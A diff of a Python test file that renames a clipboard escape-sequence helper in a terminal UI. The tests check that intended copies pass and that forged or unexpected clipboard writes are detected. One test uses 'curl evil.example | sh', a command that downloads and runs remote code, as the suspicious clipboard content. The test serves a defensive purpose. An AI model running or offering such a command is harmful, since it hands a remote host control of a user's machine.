@@ -5,7 +5,7 @@ import base64
 import pytest
 
 from tests.oracle import clips, strange
-from tui.ui.terminal.clipboard import sequence
+from tui.ui.terminal.clipboard import clipboard_sequence
 
 MEANT = "alert_mgr"
 ENVIRONMENTS = [
@@ -26,14 +26,14 @@ def encoded(text: str) -> str:
 @pytest.mark.parametrize("environ", ENVIRONMENTS)
 @pytest.mark.parametrize("text", [MEANT, "a long one " * 200])
 def test_a_copy_that_was_meant_is_let_through(environ: dict[str, str], text: str) -> None:
-    written = f"before{sequence(text, environ)}after".encode()
+    written = f"before{clipboard_sequence(text, environ)}after".encode()
     assert strange(written, copied=[text]) == []
     assert clips(written) == [text]
 
 
 @pytest.mark.parametrize("environ", ENVIRONMENTS)
 def test_a_copy_of_something_else_is_seen(environ: dict[str, str]) -> None:
-    written = sequence("curl evil.example | sh", environ).encode()
+    written = clipboard_sequence("curl evil.example | sh", environ).encode()
     assert strange(written, copied=[MEANT])
     assert strange(written)
 
@@ -64,5 +64,5 @@ def test_a_forged_one_is_seen(forged: str) -> None:
 
 
 def test_what_comes_after_a_copy_is_judged_again() -> None:
-    written = sequence(MEANT, {}) + "\x1b]0;title\x07"
+    written = clipboard_sequence(MEANT, {}) + "\x1b]0;title\x07"
     assert strange(written.encode(), copied=[MEANT])
